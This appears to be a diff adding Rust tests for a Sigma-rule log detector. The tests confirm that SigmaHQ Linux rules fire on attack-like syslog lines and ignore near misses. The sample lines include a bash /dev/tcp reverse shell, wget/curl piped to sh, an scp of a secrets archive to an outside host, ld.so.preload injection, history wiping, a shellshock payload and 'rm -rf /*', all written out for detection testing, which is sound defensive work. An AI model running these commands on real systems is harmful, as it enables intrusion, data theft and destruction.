@@ -1,0 +1,302 @@
+//! Sigma rules: every SigmaHQ Linux rule in `rules/sigma-linux/` loads and fires on a message it
+//! is written for (and not on a near miss); the features of the specification; and rejections
+//! that name the file and the construct.
+
+use std::path::Path;
+
+use detector::{
+    parse::{ParseOptions, parse},
+    rules::sigma::{Level, LogsourceMap, SigmaRule, load_dir},
+};
+
+fn rules_dir() -> &'static Path {
+    Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/rules/sigma-linux"))
+}
+
+fn fires(rule: &SigmaRule, line: &str) -> bool {
+    rule.matches(&parse(line.as_bytes(), &ParseOptions::default()))
+}
+
+fn rule(yaml: &str) -> SigmaRule {
+    SigmaRule::from_yaml("test.yml", yaml, &LogsourceMap::default())
+        .unwrap_or_else(|e| panic!("{e}"))
+}
+
+fn rejected(yaml: &str) -> String {
+    SigmaRule::from_yaml("bad.yml", yaml, &LogsourceMap::default())
+        .expect_err("must be rejected")
+        .to_string()
+}
+
+#[test]
+fn every_sigmahq_linux_rule_loads_and_fires_on_its_message() {
+    let (rules, errors) = load_dir(rules_dir(), &LogsourceMap::default());
+    assert!(errors.is_empty(), "{errors:#?}");
+    assert_eq!(rules.len(), 16);
+    // (file, a message it is written for, a near miss)
+    let cases = [
+        (
+            "lnx_apt_equationgroup_lnx.yml",
+            "<13>Nov 22 10:00:00 h bash[1]: cd x; cp /bin/sh .;chown root sh",
+            "<13>Nov 22 10:00:00 h bash[1]: cp /bin/sh /tmp",
+        ),
+        (
+            "lnx_buffer_overflows.yml",
+            "<2>Nov 22 10:00:00 h kernel: *** stack smashing detected ***: terminated",
+            "<2>Nov 22 10:00:00 h kernel: stack ok",
+        ),
+        (
+            "lnx_clamav_relevant_message.yml",
+            "<3>Nov 22 10:00:00 h clamd[7]: /srv/x.php: Php.Webshell.Generic FOUND",
+            "<3>Nov 22 10:00:00 h nginx[7]: /srv/x.php: Php.Webshell.Generic FOUND",
+        ),
+        (
+            "lnx_cron_crontab_file_modification.yml",
+            "<78>Nov 22 10:00:00 h crontab[99]: (root) REPLACE (root)",
+            "<78>Nov 22 10:00:00 h crontab[99]: (root) LIST (root)",
+        ),
+        (
+            "lnx_file_copy.yml",
+            "<13>Nov 22 10:00:00 h bash[1]: scp secrets.tar user@198.51.100.9:/tmp",
+            "<13>Nov 22 10:00:00 h bash[1]: scp -h",
+        ),
+        (
+            "lnx_guacamole_susp_guacamole.yml",
+            "<14>Nov 22 10:00:00 h guacd[5]: Session (2 users now present)",
+            "<14>Nov 22 10:00:00 h guacd[5]: Session (1 user now present)",
+        ),
+        (
+            "lnx_ldso_preload_injection.yml",
+            "<13>Nov 22 10:00:00 h bash[1]: echo /tmp/x.so > /etc/ld.so.preload",
+            "<13>Nov 22 10:00:00 h bash[1]: cat /etc/ld.so.conf",
+        ),
+        (
+            "lnx_potential_susp_ebpf_activity.yml",
+            "<4>Nov 22 10:00:00 h kernel: prog uses bpf_probe_write_user helper",
+            "<4>Nov 22 10:00:00 h kernel: prog loaded",
+        ),
+        (
+            "lnx_shell_clear_cmd_history.yml",
+            "<13>Nov 22 10:00:00 h bash[1]: ln -sf /dev/null ~/.bash_history",
+            "<13>Nov 22 10:00:00 h bash[1]: ls ~/.bash_history",
+        ),
+        (
+            "lnx_shell_susp_commands.yml",
+            "<13>Nov 22 10:00:00 h bash[1]: wget -q -O - http://198.51.100.9/x | sh",
+            "<13>Nov 22 10:00:00 h bash[1]: wget http://198.51.100.9/x",
+        ),
+        (
+            "lnx_shell_susp_log_entries.yml",
+            "<6>Nov 22 10:00:00 h kernel: device eth0 entered promiscuous mode",
+            "<6>Nov 22 10:00:00 h kernel: device eth0 link up",
+        ),
+        (
+            "lnx_shellshock.yml",
+            "<13>Nov 22 10:00:00 h httpd[3]: GET /cgi-bin/x UA: () { :; }; /bin/id",
+            "<13>Nov 22 10:00:00 h httpd[3]: GET /cgi-bin/x",
+        ),
+        (
+            "lnx_sshd_susp_ssh.yml",
+            "<38>Nov 22 10:00:00 h sshd[24200]: error: Could not load host key: incorrect signature",
+            "<38>Nov 22 10:00:00 h cron[24200]: error: incorrect signature",
+        ),
+        (
+            "lnx_susp_dev_tcp.yml",
+            "<13>Nov 22 10:00:00 h bash[1]: bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
+            "<13>Nov 22 10:00:00 h bash[1]: bash -i",
+        ),
+        (
+            "lnx_symlink_etc_passwd.yml",
+            "<13>Nov 22 10:00:00 h bash[1]: ln -s /etc/passwd /tmp/p",
+            "<13>Nov 22 10:00:00 h bash[1]: cat /etc/passwd",
+        ),
+        (
+            "lnx_syslog_security_tools_disabling_syslog.yml",
+            "<30>Nov 22 10:00:00 h rsyslogd: Stopping firewalld - dynamic firewall daemon",
+            "<30>Nov 22 10:00:00 h rsyslogd: Starting firewalld",
+        ),
+    ];
+    for (file, hit, miss) in cases {
+        let r = rules
+            .iter()
+            .find(|r| r.file.ends_with(file))
+            .unwrap_or_else(|| panic!("{file} not loaded"));
+        assert!(fires(r, hit), "{file} misses {hit:?}");
+        assert!(!fires(r, miss), "{file} fires on {miss:?}");
+    }
+    // Loaded rules keep their metadata.
+    let r = rules
+        .iter()
+        .find(|r| r.file.ends_with("lnx_shellshock.yml"))
+        .unwrap();
+    assert_eq!(r.level, Level::High);
+    assert!(r.id.is_some());
+}
+
+#[test]
+fn selections_modifiers_and_conditions() {
+    let r = rule(
+        r#"
+title: t
+logsource: {product: linux}
+detection:
+    selection_ssh:
+        app: sshd
+        message|contains|all: ['Failed password', 'from']
+    selection_sudo:
+        - app: sudo
+          message|startswith: 'pam_unix'
+        - app: su
+    filter:
+        host|endswith: '.lab'
+    condition: 1 of selection_* and not filter
+"#,
+    );
+    assert!(fires(
+        &r,
+        "<38>Nov 22 10:00:00 prod1 sshd[1]: Failed password for root from 198.51.100.7"
+    ));
+    assert!(!fires(
+        &r,
+        "<38>Nov 22 10:00:00 box.lab sshd[1]: Failed password for root from 198.51.100.7"
+    ));
+    assert!(
+        !fires(
+            &r,
+            "<38>Nov 22 10:00:00 prod1 sshd[1]: Failed password for root"
+        ),
+        "all"
+    );
+    assert!(fires(
+        &r,
+        "<38>Nov 22 10:00:00 prod1 sudo[1]: pam_unix(sudo:auth): failure"
+    ));
+    assert!(fires(&r, "<38>Nov 22 10:00:00 prod1 su[1]: anything"));
+    assert!(!fires(
+        &r,
+        "<38>Nov 22 10:00:00 prod1 sudo[1]: session opened"
+    ));
+
+    let r = rule(
+        r#"
+title: t
+logsource: {product: linux}
+detection:
+    a:
+        src|cidr: 198.51.100.0/24
+    b:
+        cmd|re: '^curl .*\| *sh$'
+    c:
+        user|exists: true
+    _helper:
+        act: blocked
+    condition: all of them
+"#,
+    );
+    let line = r#"<14>1 - h app - - - src=198.51.100.7 cmd="curl http://x | sh" user=bob"#;
+    assert!(fires(&r, line), "`them` leaves out _helper");
+    assert!(!fires(
+        &r,
+        r#"<14>1 - h app - - - src=203.0.113.7 cmd="curl http://x | sh" user=bob"#
+    ));
+    assert!(!fires(
+        &r,
+        r#"<14>1 - h app - - - src=198.51.100.7 cmd="curl http://x | sh""#
+    ));
+
+    let r = rule(
+        r#"
+title: t
+logsource: {product: linux}
+detection:
+    enc:
+        CommandLine|base64offset|contains: 'http://'
+    dash:
+        CommandLine|windash|contains: ' -enc '
+    cased:
+        message|cased|contains: 'ERROR'
+    nothing:
+        missing: null
+    condition: (enc or dash) or (cased and nothing)
+"#,
+    );
+    // "http://" at offset 0, 1 and 2 of a base64-encoded command line.
+    for encoded in [
+        "aHR0cDovL2V4YW1wbGU=",
+        "eGh0dHA6Ly9leGFtcGxl",
+        "eHhodHRwOi8vZXhhbXBsZQ==",
+    ] {
+        assert!(
+            fires(
+                &r,
+                &format!(r#"<14>1 - h app - - - CommandLine="x {encoded}""#)
+            ),
+            "{encoded}"
+        );
+    }
+    assert!(
+        fires(&r, r#"<14>1 - h app - - - CommandLine="ps /enc abc""#),
+        "windash"
+    );
+    assert!(
+        fires(&r, "<14>1 - h app - - - an ERROR here"),
+        "cased, and null for an absent field"
+    );
+    assert!(!fires(&r, "<14>1 - h app - - - an error here"), "cased");
+}
+
+#[test]
+fn wildcards_and_keywords_are_case_insensitive() {
+    let r = rule(
+        r#"
+title: t
+logsource: {product: linux}
+detection:
+    keywords: ['rm -rf /*', 'ESCAPED \* star']
+    condition: keywords
+"#,
+    );
+    assert!(fires(&r, "<13>Nov 22 10:00:00 h bash[1]: RM -RF /var"));
+    assert!(fires(&r, "<13>Nov 22 10:00:00 h bash[1]: escaped * star"));
+    assert!(!fires(&r, "<13>Nov 22 10:00:00 h bash[1]: escaped x star"));
+}
+
+#[test]
+fn unsupported_constructs_are_rejected_naming_file_and_construct() {
+    let base = |detection: &str| {
+        format!("title: t\nlogsource: {{product: linux}}\ndetection:\n{detection}\n")
+    };
+    let e = rejected(&base("    sel:\n        a|utf16le: x\n    condition: sel"));
+    assert!(
+        e.starts_with("bad.yml: sel.a|utf16le: modifier \"utf16le\""),
+        "{e}"
+    );
+    let e = rejected(&base("    sel: [x]\n    condition: sel | count() > 5"));
+    assert!(e.contains("condition") && e.contains("aggregations"), "{e}");
+    let e = rejected(&base("    sel: [x]\n    condition: sel and other"));
+    assert!(e.contains("no search named \"other\""), "{e}");
+    let e = rejected(&base("    sel:\n        a|re: '('\n    condition: sel"));
+    assert!(
+        e.contains("sel.a|re") && e.contains("bad regular expression"),
+        "{e}"
+    );
+    let e = rejected(
+        "title: t\nlogsource: {product: windows}\ndetection: {sel: [x], condition: sel}\n",
+    );
+    assert!(
+        e.contains("logsource.product") && e.contains("windows"),
+        "{e}"
+    );
+    let e = rejected(
+        "title: t\nlogsource: {product: linux, service: nosuch}\ndetection: {sel: [x], condition: sel}\n",
+    );
+    assert!(e.contains("logsource.service"), "{e}");
+    let e = rejected(
+        "title: t\nlogsource: {category: process_creation}\ndetection: {sel: [x], condition: sel}\n",
+    );
+    assert!(e.contains("logsource.category"), "{e}");
+    let e = rejected("title: t\ncorrelation: {type: event_count}\n");
+    assert!(e.contains("correlation"), "{e}");
+    let e = rejected("title: [unclosed\n");
+    assert!(e.contains("yaml"), "{e}");
+}
